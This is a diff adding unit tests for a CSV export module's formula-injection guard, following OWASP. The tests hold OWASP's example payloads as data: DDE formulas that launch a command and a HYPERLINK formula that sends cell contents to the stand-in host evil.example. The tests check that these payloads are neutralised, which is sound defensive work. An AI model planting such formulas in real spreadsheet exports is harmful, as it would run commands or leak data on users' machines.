@@ -1,4 +1,4 @@
-import { CSV_BOM, buildCsv, csvField, csvLine } from './csv';
+import { CSV_BOM, buildCsv, csvDecimal, csvField, csvLine } from './csv';
 
 describe('csv (RFC 4180)', () => {
   it('leaves plain fields as they are', () => {
@@ -41,5 +41,40 @@ describe('csv (RFC 4180)', () => {
   it('encodes as UTF-8 with the EF BB BF byte order mark', async () => {
     const bytes = new Uint8Array(await new Blob([buildCsv(['ñ'], [])]).arrayBuffer());
     expect(Array.from(bytes.slice(0, 5))).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xb1]);
+  });
+
+  describe('CSV injection guard (OWASP)', () => {
+    it('prefixes a text starting with =, +, -, @, a tab or a CR with a quote', () => {
+      expect(csvField('=1+1')).toBe("'=1+1");
+      expect(csvField('+1+1')).toBe("'+1+1");
+      expect(csvField('-1+1')).toBe("'-1+1");
+      expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
+      expect(csvField('\t=1+1')).toBe("'\t=1+1");
+      expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
+    });
+
+    it("neutralises OWASP's example payloads, quoting them too when they hold a quote or comma", () => {
+      expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
+      expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Error")')).toBe(
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Error"")"',
+      );
+      expect(csvField("@SUM(1+9)*cmd|' /C calc'!A0")).toBe("'@SUM(1+9)*cmd|' /C calc'!A0");
+      expect(csvField("=10+20+cmd|' /C calc'!A0")).toBe("'=10+20+cmd|' /C calc'!A0");
+      expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
+      expect(csvField("+2+3+cmd|' /C calc'!A0")).toBe("'+2+3+cmd|' /C calc'!A0");
+    });
+
+    it('leaves harmless text alone: a formula sign inside is not at the start', () => {
+      expect(csvField('76543210')).toBe('76543210');
+      expect(csvField('7654=3210')).toBe('7654=3210');
+      expect(csvField('Quispe-Mamani')).toBe('Quispe-Mamani');
+    });
+
+    it('writes amounts as plain numbers, negative ones included', () => {
+      expect(csvField(csvDecimal('1500.00'))).toBe('1500.00');
+      expect(csvField(csvDecimal('-5.00'))).toBe('-5.00');
+      expect(csvField(-3)).toBe('-3');
+      expect(csvField(csvDecimal('-1+1'))).toBe("'-1+1");
+    });
   });
 });
